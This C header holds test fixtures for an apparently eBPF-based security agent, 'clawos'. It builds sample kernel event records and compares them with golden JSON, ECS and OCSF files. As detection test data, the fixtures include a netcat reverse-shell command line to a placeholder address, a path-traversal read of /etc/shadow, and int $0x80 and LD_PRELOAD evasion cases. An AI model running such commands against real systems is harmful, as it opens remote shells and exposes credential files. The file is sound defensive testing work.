/* SPDX-License-Identifier: LGPL-2.1-or-later */
#pragma once

/*
 * One sample of every kernel record type (and of each variant with its own
 * mapping), the records behind the golden files in tests/data/golden/:
 * <name>.json is the native form, ecs/<name>.json and ocsf/<name>.json the
 * other two.  test-event-json.c and test-event-siem.c check them against
 * those files; print-fixture-records.c prints them for the schema check.
 */

#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>

#include "agent/event-json.h"
#include "agent/util/macro.h"

/* hdr.ts_ns + offset = 2026-01-02T03:04:05.123456789Z */
#define FIXTURE_BOOT_NS 1000000000000ULL
#define FIXTURE_REALTIME_NS 1767323045123456789LL

static const struct event_context fixture_ctx = {
    .realtime_offset_ns = FIXTURE_REALTIME_NS - (int64_t)FIXTURE_BOOT_NS,
    .host = "testhost",
    .exe = "/usr/bin/bash",
    .cgroup_path = "/system.slice/test.service",
    .user = "alice",
    .ppid = 1,
};

union fixture_record {
	struct clawos_event_hdr hdr;
	struct clawos_exec_event exec;
	struct clawos_file_event file;
	struct clawos_net_event net;
	struct clawos_net6_event net6;
	struct clawos_cgroup_event cgroup;
	struct clawos_syscall_event syscall;
	struct clawos_anomaly_event anomaly;
	struct clawos_proc_event proc;
};

static void fixture_hdr(struct clawos_event_hdr *h, unsigned type, size_t size)
{
	h->type = (uint8_t)type;
	h->version = CLAWOS_ABI_VERSION;
	h->size = (uint16_t)size;
	h->cpu = 3;
	h->seq = 42;
	h->pid = 4242;
	h->tid = 4243;
	h->ppid = 4000;
	h->ts_ns = FIXTURE_BOOT_NS;
	h->uid = 1000;
	h->gid = 1000;
	h->cgroup_id = 8421;
	memcpy(h->comm, "bash", 5);
}

static void fixture_args(struct clawos_exec_event *e, const char *const *argv, unsigned argc)
{
	size_t off = 0;

	for (unsigned i = 0; i < argc; i++) {
		size_t n = strlen(argv[i]) + 1;

		memcpy(e->args + off, argv[i], n);
		off += n;
	}
	e->args_len = (uint16_t)off;
	/* on the wire an exec record ends with its arguments */
	e->hdr.size = (uint16_t)(CLAWOS_EXEC_FIXED_SIZE + off);
}

static void fixture_exec(union fixture_record *r, struct event_context *ctx)
{
	static const char *const argv[] = {"/bin/sh", "-c",   "echo \"hello world\" > '/tmp/a b'",
					   "",	      "it's", "back\\slash"};
	struct clawos_exec_event *e = &r->exec;

	fixture_hdr(&e->hdr, CLAWOS_EV_EXEC, sizeof(*e));
	snprintf(e->filename, sizeof(e->filename), "/usr/bin/dash");
	fixture_args(e, argv, ELEMENTSOF(argv));
	snprintf(e->cwd, sizeof(e->cwd), "/home/alice/src");
	e->flags = CLAWOS_EXEC_F_ARGS_TRUNCATED;
	e->mechanism = CLAWOS_MECH_TRACEPOINT;
	e->old_tid = 4243;
}

static void fixture_exec_failed(union fixture_record *r, struct event_context *ctx)
{
	static const char *const argv[] = {"nosuch"};
	struct clawos_exec_event *e = &r->exec;

	fixture_hdr(&e->hdr, CLAWOS_EV_EXEC, sizeof(*e));
	e->hdr.ppid = 0; /* the context's ppid fills in */
	snprintf(e->filename, sizeof(e->filename), "/usr/local/bin/nosuch");
	fixture_args(e, argv, ELEMENTSOF(argv));
	e->flags = CLAWOS_EXEC_F_FAILED | CLAWOS_EXEC_F_EXECVEAT | CLAWOS_EXEC_F_CWD_TRUNCATED;
	e->ret = -ENOENT;
	e->mechanism = CLAWOS_MECH_TRACEPOINT;
	e->old_tid = 4243;
}

/* An exec no execve tracepoint saw (int $0x80), with loader variables in
 * its environment, under ptrace. */
static void fixture_exec_evasion(union fixture_record *r, struct event_context *ctx)
{
	static const char *const argv[] = {"/tmp/evade-abi", "exec32"};
	struct clawos_exec_event *e = &r->exec;

	fixture_hdr(&e->hdr, CLAWOS_EV_EXEC, sizeof(*e));
	snprintf(e->filename, sizeof(e->filename), "/usr/bin/true");
	fixture_args(e, argv, ELEMENTSOF(argv));
	snprintf(e->cwd, sizeof(e->cwd), "/tmp");
	e->flags = CLAWOS_EXEC_F_NO_SYSCALL;
	e->loader_env = CLAWOS_LOADER_LD_PRELOAD | CLAWOS_LOADER_LD_LIBRARY_PATH | CLAWOS_LOADER_TRACED;
	e->mechanism = CLAWOS_MECH_TRACEPOINT;
	e->old_tid = 4242;
}

/* Every byte that needs escaping or cleaning, in one kernel path. */
static const char fixture_hostile_path[] = "/tmp/q\"b\\n\nt\tesc\x1b"
					   "c\x01\x1f\x7f"
					   "|ff\xff|e2\xe2\x82x|c0\xc0\xaf|ed\xed\xa0\x80|ok\xc3\xa9\xe2\x82\xac";

static void fixture_file_escapes(union fixture_record *r, struct event_context *ctx)
{
	struct clawos_file_event *e = &r->file;

	fixture_hdr(&e->hdr, CLAWOS_EV_FILE, sizeof(*e));
	memcpy(e->hdr.comm, "evil\nname\xff\x1b", 12);
	memcpy(e->path, fixture_hostile_path, sizeof(fixture_hostile_path));
	e->path_len = sizeof(fixture_hostile_path);
	e->path_flags = CLAWOS_PATH_F_RESOLVED | CLAWOS_PATH_F_NO_RESULT;
	e->op = CLAWOS_FILE_OP_FILE_OPEN;
	e->mechanism = CLAWOS_MECH_LSM;
	e->flags = 0x8000 | 02; /* O_LARGEFILE | O_RDWR */
	e->dirfd = -100;
}

static void fixture_file_normalized(union fixture_record *r, struct event_context *ctx)
{
	static const char raw[] = "/etc/./x";
	struct clawos_file_event *e = &r->file;

	fixture_hdr(&e->hdr, CLAWOS_EV_FILE, sizeof(*e));
	memcpy(e->hdr.comm, "cat", 4);
	memcpy(e->path, raw, sizeof(raw));
	e->path_len = sizeof(raw);
	e->path_flags = CLAWOS_PATH_F_RESOLVED;
	e->op = CLAWOS_FILE_OP_OPEN;
	e->mechanism = CLAWOS_MECH_TRACEPOINT;
	e->flags = 02000000; /* O_RDONLY | O_CLOEXEC */
	e->dirfd = -100;
	e->ret = 3;
}

/* O_CREAT on a name that did not exist: the kernel marked it created */
static void fixture_file_created(union fixture_record *r, struct event_context *ctx)
{
	static const char path[] = "/tmp/x/../payload.sh";
	struct clawos_file_event *e = &r->file;

	fixture_hdr(&e->hdr, CLAWOS_EV_FILE, sizeof(*e));
	memcpy(e->path, path, sizeof(path));
	e->path_len = sizeof(path);
	e->path_flags = CLAWOS_PATH_F_RESOLVED | CLAWOS_PATH_F_CREATED;
	e->op = CLAWOS_FILE_OP_OPEN;
	e->mechanism = CLAWOS_MECH_TRACEPOINT;
	e->flags = 01 | 0100 | 01000; /* O_WRONLY|O_CREAT|O_TRUNC, as creat(2) */
	e->mode = 0755;
	e->dirfd = -100;
	e->ret = 3;
}

/* 9999 repeats of one open folded in the kernel (aggregate_window): the
 * first at hdr.ts_ns, the last 199.5 ms later; the short form. */
static void fixture_file_repeat(union fixture_record *r, struct event_context *ctx)
{
	static const char path[] = "/etc/ld.so.cache";
	struct clawos_file_event *e = &r->file;
	const uint64_t span = 199500000;

	fixture_hdr(&e->hdr, CLAWOS_EV_FILE, CLAWOS_FILE_MIN_SIZE);
	memcpy(e->path, path, sizeof(path));
	e->path_len = sizeof(path);
	e->path_flags = CLAWOS_PATH_F_RESOLVED;
	e->xflags = CLAWOS_FILE_X_REPEAT;
	e->op = CLAWOS_FILE_OP_OPEN;
	e->mechanism = CLAWOS_MECH_TRACEPOINT;
	e->flags = 0x80000; /* O_CLOEXEC */
	e->dirfd = -100;
	e->ret = 3;
	e->repeat_count = 9999;
	e->repeat_span_hi = (uint16_t)(span >> 32);
	e->repeat_span_lo = (uint32_t)span;
}

/* What was opened, read from the struct file at sys_exit: the caller asked
 * for another spelling, from a chroot; protected by identity. */
static void fixture_file_resolved(union fixture_record *r, struct event_context *ctx)
{
	static const char path[] = "/etc/shadow", req[] = "../../../../etc/shadow", root[] = "/srv/jail";
	struct clawos_file_event *e = &r->file;

	fixture_hdr(&e->hdr, CLAWOS_EV_FILE, CLAWOS_FILE_FIXED_SIZE + sizeof(req));
	memcpy(e->hdr.comm, "cat", 4);
	memcpy(e->path, path, sizeof(path));
	e->path_len = sizeof(path);
	memcpy(e->requested, req, sizeof(req));
	e->requested_len = sizeof(req);
	memcpy(e->root, root, sizeof(root));
	e->root_len = sizeof(root);
	e->ino = 1234567;
	e->dev = (8 << 20) | 1;
	e->xflags = CLAWOS_FILE_X_FROM_FILE | CLAWOS_FILE_X_IDENTITY | CLAWOS_FILE_X_ROOT;
	e->path_flags = CLAWOS_PATH_F_RESOLVED;
	e->op = CLAWOS_FILE_OP_OPEN;
	e->mechanism = CLAWOS_MECH_TRACEPOINT;
	e->flags = 02000000; /* O_RDONLY | O_CLOEXEC */
	e->dirfd = -100;
	e->ret = 3;
}

static void fixture_file_enoent(union fixture_record *r, struct event_context *ctx)
{
	static const char path[] = "/nonexistent/secret";
	struct clawos_file_event *e = &r->file;

	fixture_hdr(&e->hdr, CLAWOS_EV_FILE, sizeof(*e));
	memcpy(e->path, path, sizeof(path));
	e->path_len = sizeof(path);
	e->path_flags = CLAWOS_PATH_F_OPENAT2;
	e->op = CLAWOS_FILE_OP_OPEN;
	e->mechanism = CLAWOS_MECH_TRACEPOINT;
	e->flags = 01 | 0100 | 01000 | 0x80000000u; /* O_WRONLY|O_CREAT|O_TRUNC + an unknown bit */
	e->mode = 0644;
	e->dirfd = 5;
	e->ret = -ENOENT;
}

/* truncate(2) of a protected file by a relative name: no file opened, the
 * name joined to the cwd; flags as the open that would do the same */
static void fixture_file_truncate(union fixture_record *r, struct event_context *ctx)
{
	static const char path[] = "/etc/ssh/../shadow", req[] = "../shadow";
	struct clawos_file_event *e = &r->file;

	fixture_hdr(&e->hdr, CLAWOS_EV_FILE, CLAWOS_FILE_FIXED_SIZE + sizeof(req));
	memcpy(e->hdr.comm, "truncate", 9);
	memcpy(e->path, path, sizeof(path));
	e->path_len = sizeof(path);
	memcpy(e->requested, req, sizeof(req));
	e->requested_len = sizeof(req);
	e->path_flags = CLAWOS_PATH_F_RESOLVED | CLAWOS_PATH_F_VIOLATION;
	e->op = CLAWOS_FILE_OP_TRUNCATE;
	e->mechanism = CLAWOS_MECH_TRACEPOINT;
	e->flags = 01 | 01000; /* O_WRONLY|O_TRUNC */
	e->dirfd = -100;
	e->ret = -EACCES;
}

static void fixture_network_connect4(union fixture_record *r, struct event_context *ctx)
{
	struct clawos_net_event *e = &r->net;

	fixture_hdr(&e->hdr, CLAWOS_EV_NET, sizeof(*e));
	memcpy(e->hdr.comm, "curl", 5);
	e->addr = htonl(0xc000020a); /* 192.0.2.10 */
	e->port = htons(443);
	e->op = CLAWOS_NET_OP_CONNECT;
	e->info = CLAWOS_NET_INFO(CLAWOS_PROTO_TCP, CLAWOS_MECH_CGROUP);
}

static void fixture_network_bind6(union fixture_record *r, struct event_context *ctx)
{
	static const uint8_t addr[16] = {0x20, 0x01, 0x0d, 0xb8, [15] = 1};
	struct clawos_net6_event *e = &r->net6;

	fixture_hdr(&e->hdr, CLAWOS_EV_NET6, sizeof(*e));
	memcpy(e->hdr.comm, "nginx", 6);
	memcpy(e->addr, addr, sizeof(addr));
	e->port = htons(8080);
	e->op = CLAWOS_NET_OP_BIND;
	e->info = CLAWOS_NET_INFO(CLAWOS_PROTO_UDP, CLAWOS_MECH_LSM);
}

static void fixture_network_socket_raw(union fixture_record *r, struct event_context *ctx)
{
	struct clawos_net_event *e = &r->net;

	fixture_hdr(&e->hdr, CLAWOS_EV_NET, sizeof(*e));
	memcpy(e->hdr.comm, "ping", 5);
	e->sock.family = 2; /* AF_INET */
	e->sock.type = 3;   /* SOCK_RAW */
	e->port = 1;	    /* IPPROTO_ICMP, host order */
	e->op = CLAWOS_NET_OP_CREATE;
	e->info = CLAWOS_NET_INFO(CLAWOS_PROTO_RAW, CLAWOS_MECH_CGROUP);
}

static void fixture_network_accept6(union fixture_record *r, struct event_context *ctx)
{
	static const uint8_t addr[16] = {0x20, 0x01, 0x0d, 0xb8, [15] = 2};
	struct clawos_net6_event *e = &r->net6;

	fixture_hdr(&e->hdr, CLAWOS_EV_NET6, sizeof(*e));
	memcpy(e->hdr.comm, "sshd", 5);
	memcpy(e->addr, addr, sizeof(addr));
	e->port = htons(51000);
	e->op = CLAWOS_NET_OP_ACCEPT;
	e->info = CLAWOS_NET_INFO(CLAWOS_PROTO_TCP, CLAWOS_MECH_TRACEPOINT);
}

static void fixture_network_listen4(union fixture_record *r, struct event_context *ctx)
{
	struct clawos_net_event *e = &r->net;

	fixture_hdr(&e->hdr, CLAWOS_EV_NET, sizeof(*e));
	memcpy(e->hdr.comm, "nginx", 6);
	e->addr = 0; /* 0.0.0.0 */
	e->port = htons(8080);
	e->op = CLAWOS_NET_OP_LISTEN;
	e->info = CLAWOS_NET_INFO(CLAWOS_PROTO_TCP, CLAWOS_MECH_TRACEPOINT);
}

static void fixture_network_sendmsg4(union fixture_record *r, struct event_context *ctx)
{
	struct clawos_net_event *e = &r->net;

	fixture_hdr(&e->hdr, CLAWOS_EV_NET, sizeof(*e));
	memcpy(e->hdr.comm, "dig", 4);
	e->addr = htonl(0xc6336407); /* 198.51.100.7 */
	e->port = htons(53);
	e->op = CLAWOS_NET_OP_SENDMSG;
	e->info = CLAWOS_NET_INFO(CLAWOS_PROTO_UDP, CLAWOS_MECH_CGROUP);
}

static void fixture_cgroup(union fixture_record *r, struct event_context *ctx)
{
	static const char path[] = "/system.slice/nginx.service";
	struct clawos_cgroup_event *e = &r->cgroup;

	e->hdr.type = CLAWOS_EV_CGROUP;
	e->hdr.version = CLAWOS_ABI_VERSION;
	e->hdr.size = sizeof(*e);
	e->hdr.cpu = CLAWOS_CPU_USER;
	e->hdr.seq = 7;
	e->hdr.ts_ns = FIXTURE_BOOT_NS;
	e->hdr.cgroup_id = 8421;
	e->rx_packets = 10;
	e->rx_bytes = 1500;
	e->tx_packets = 20;
	e->tx_bytes = 1ULL << 40;
	e->interval_ns = 30000000000ULL;
	memcpy(e->path, path, sizeof(path));
	/* synthesised by user space: no process */
	*ctx = (struct event_context){.realtime_offset_ns = fixture_ctx.realtime_offset_ns, .host = "testhost"};
}

static void fixture_syscall(union fixture_record *r, struct event_context *ctx)
{
	struct clawos_syscall_event *e = &r->syscall;

	fixture_hdr(&e->hdr, CLAWOS_EV_SYSCALL, sizeof(*e));
	e->nr = 257; /* openat */
	e->nargs = 3;
	e->args[0] = (uint64_t)-100;
	e->args[1] = 0x7ffd12345678ULL;
	e->args[2] = 0x80000;
	e->args[3] = 0xdead; /* not captured: beyond nargs */
	e->mechanism = CLAWOS_MECH_TP_BTF;
}

static void fixture_anomaly(union fixture_record *r, struct event_context *ctx)
{
	static const struct {
		uint32_t pid;
		const char *comm;
	} anc[] = {{4000, "bash"}, {3000, "sshd"}, {1, "systemd"}};
	static const struct clawos_syscall_count top[] = {{0, 4000}, {1, 800}, {999, 200}};
	struct clawos_anomaly_event *e = &r->anomaly;

	fixture_hdr(&e->hdr, CLAWOS_EV_ANOMALY, sizeof(*e));
	e->hdr.cpu = CLAWOS_CPU_USER;
	e->kind = CLAWOS_ANOMALY_SYSCALL_RATE;
	e->severity = CLAWOS_SEV_HIGH;
	e->suppressed = 2;
	e->observed = 5000;
	e->threshold = 1000;
	e->mechanism = CLAWOS_MECH_USER;
	snprintf(e->rule, sizeof(e->rule), "syscall_rate");
	snprintf(e->description, sizeof(e->description), "5000 syscalls/s exceeds the threshold of 1000/s");
	e->ancestry_len = ELEMENTSOF(anc);
	for (size_t i = 0; i < ELEMENTSOF(anc); i++) {
		e->ancestry[i].pid = anc[i].pid;
		snprintf(e->ancestry[i].comm, sizeof(e->ancestry[i].comm), "%s", anc[i].comm);
	}
	e->top_len = ELEMENTSOF(top);
	memcpy(e->top, top, sizeof(top));
	/* the target and the ancestors' executables come from user space */
	ctx->target_name = "agent-7";
	ctx->target_root_pid = 3999;
	ctx->target_session = 17;
	ctx->ancestry_exe[0] = "/usr/bin/bash";
	ctx->ancestry_exe[1] = "/usr/sbin/sshd";
}

static void fixture_anomaly_file_violation(union fixture_record *r, struct event_context *ctx)
{
	struct clawos_anomaly_event *e = &r->anomaly;

	fixture_hdr(&e->hdr, CLAWOS_EV_ANOMALY, sizeof(*e));
	e->kind = CLAWOS_ANOMALY_FILE_VIOLATION;
	e->severity = CLAWOS_SEV_CRITICAL;
	e->flags = CLAWOS_ANOMALY_F_ENFORCED;
	e->observed = 1;
	e->threshold = 0;
	e->mechanism = CLAWOS_MECH_LSM;
	snprintf(e->rule, sizeof(e->rule), "protected_path");
	snprintf(e->description, sizeof(e->description), "write to a protected file");
	snprintf(e->subject, sizeof(e->subject), "/etc/shadow");
}

/* Raised by the agent about itself: no process. */
static void fixture_anomaly_tamper(union fixture_record *r, struct event_context *ctx)
{
	struct clawos_anomaly_event *e = &r->anomaly;

	e->hdr.type = CLAWOS_EV_ANOMALY;
	e->hdr.version = CLAWOS_ABI_VERSION;
	e->hdr.size = sizeof(*e);
	e->hdr.cpu = CLAWOS_CPU_USER;
	e->hdr.seq = 9;
	e->hdr.ts_ns = FIXTURE_BOOT_NS;
	e->kind = CLAWOS_ANOMALY_TAMPER;
	e->severity = CLAWOS_SEV_CRITICAL;
	e->mechanism = CLAWOS_MECH_USER;
	snprintf(e->rule, sizeof(e->rule), "self_check");
	snprintf(e->description, sizeof(e->description),
		 "a BPF program or link of the agent disappeared: clawos_tp_openat");
	snprintf(e->subject, sizeof(e->subject), "clawos_tp_openat");
	*ctx = (struct event_context){.realtime_offset_ns = fixture_ctx.realtime_offset_ns, .host = "testhost"};
}

/* open("/etc/shadow") through int $0x80, described as the agent does. */
static void fixture_anomaly_evasion(union fixture_record *r, struct event_context *ctx)
{
	struct clawos_anomaly_event *e = &r->anomaly;

	fixture_hdr(&e->hdr, CLAWOS_EV_ANOMALY, sizeof(*e));
	e->hdr.cpu = CLAWOS_CPU_USER;
	e->kind = CLAWOS_ANOMALY_EVASION;
	e->severity = CLAWOS_SEV_HIGH;
	e->mechanism = CLAWOS_MECH_TRACEPOINT;
	e->observed = 5;
	snprintf(e->rule, sizeof(e->rule), "compat_syscall");
	snprintf(e->subject, sizeof(e->subject), "/etc/shadow");
	snprintf(e->description, sizeof(e->description),
		 "bash[4242] made the 32-bit system call open (/etc/shadow) (int $0x80 from a 64-bit program: no "
		 "syscall tracepoint sees it)");
}

/* A Sigma hit: rule and trigger come from user space (ctx->sigma). */
static void fixture_anomaly_sigma(union fixture_record *r, struct event_context *ctx)
{
	static const char *const tags[] = {"attack.execution", "attack.t1059.004"};
	static const char *const names[] = {"Image", "CommandLine"};
	/* a value is bounded by its length, not by a NUL */
	static const char *const values[] = {"/usr/bin/nc", "nc -e /bin/sh 192.0.2.1 4444 and more"};
	static const uint32_t lens[] = {11, 28};
	static const struct event_sigma sg = {
	    .id = "83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871",
	    .title = "Linux Reverse Shell Indicator",
	    .level = "critical",
	    .status = "test",
	    .category = "process_creation",
	    .file = "/etc/clawos-ebpf/sigma/rev.yml",
	    .tags = tags,
	    .n_tags = ELEMENTSOF(tags),
	    .matched_names = names,
	    .matched_values = values,
	    .matched_lens = lens,
	    .n_matched = ELEMENTSOF(names),
	    .subject = "/usr/bin/nc",
	    .trigger_event = "exec",
	    .trigger_cpu = 1,
	    .trigger_seq = 777,
	};
	struct clawos_anomaly_event *e = &r->anomaly;

	fixture_hdr(&e->hdr, CLAWOS_EV_ANOMALY, sizeof(*e));
	e->hdr.cpu = CLAWOS_CPU_USER;
	e->kind = CLAWOS_ANOMALY_SIGMA;
	e->severity = CLAWOS_SEV_CRITICAL;
	e->mechanism = CLAWOS_MECH_USER;
	snprintf(e->rule, sizeof(e->rule), "%s", sg.id); /* cut: the JSON has it whole */
	snprintf(e->description, sizeof(e->description), "%s", sg.title);
	e->ancestry_len = 1;
	e->ancestry[0].pid = 4000;
	snprintf(e->ancestry[0].comm, sizeof(e->ancestry[0].comm), "bash");
	ctx->sigma = &sg;
}

static void fixture_process_fork(union fixture_record *r, struct event_context *ctx)
{
	fixture_hdr(&r->proc.hdr, CLAWOS_EV_PROC, sizeof(r->proc));
	r->proc.op = CLAWOS_PROC_FORK;
	r->proc.child_pid = 4300;
}

static void fixture_process_exit(union fixture_record *r, struct event_context *ctx)
{
	fixture_hdr(&r->proc.hdr, CLAWOS_EV_PROC, sizeof(r->proc));
	r->proc.op = CLAWOS_PROC_EXIT;
	r->proc.exit_code = 3 << 8; /* exit(3) */
}

static void fixture_process_killed(union fixture_record *r, struct event_context *ctx)
{
	fixture_hdr(&r->proc.hdr, CLAWOS_EV_PROC, sizeof(r->proc));
	r->proc.op = CLAWOS_PROC_EXIT;
	r->proc.exit_code = 9; /* killed by SIGKILL */
}

static const struct fixture {
	const char *name; /* of the golden files */
	void (*build)(union fixture_record *r, struct event_context *ctx);
} fixtures[] = {
    {"exec", fixture_exec},
    {"exec-failed", fixture_exec_failed},
    {"file-escapes", fixture_file_escapes},
    {"file-normalized", fixture_file_normalized},
    {"file-enoent", fixture_file_enoent},
    {"file-created", fixture_file_created},
    {"file-resolved", fixture_file_resolved},
    {"file-truncate", fixture_file_truncate},
    {"file-repeat", fixture_file_repeat},
    {"network-connect4", fixture_network_connect4},
    {"network-bind6", fixture_network_bind6},
    {"network-socket-raw", fixture_network_socket_raw},
    {"network-accept6", fixture_network_accept6},
    {"network-listen4", fixture_network_listen4},
    {"network-sendmsg4", fixture_network_sendmsg4},
    {"cgroup", fixture_cgroup},
    {"syscall", fixture_syscall},
    {"anomaly", fixture_anomaly},
    {"anomaly-file-violation", fixture_anomaly_file_violation},
    {"anomaly-tamper", fixture_anomaly_tamper},
    {"anomaly-sigma", fixture_anomaly_sigma},
    {"process-fork", fixture_process_fork},
    {"process-exit", fixture_process_exit},
    {"process-killed", fixture_process_killed},
    {"exec-evasion", fixture_exec_evasion},
    {"anomaly-evasion", fixture_anomaly_evasion},
};

/* The fixture of that name (of its golden files); NULL if there is none. */
static inline const struct fixture *fixture_named(const char *name)
{
	for (size_t i = 0; i < ELEMENTSOF(fixtures); i++)
		if (strcmp(fixtures[i].name, name) == 0)
			return &fixtures[i];
	return NULL;
}

/* Fills r and ctx (a copy of fixture_ctx, changed where the record needs). */
static inline void fixture_build(const struct fixture *f, union fixture_record *r, struct event_context *ctx)
{
	if (!f) {
		fputs("fixture_build: no such fixture\n", stderr);
		abort();
	}
	memset(r, 0, sizeof(*r));
	*ctx = fixture_ctx;
	f->build(r, ctx);
}
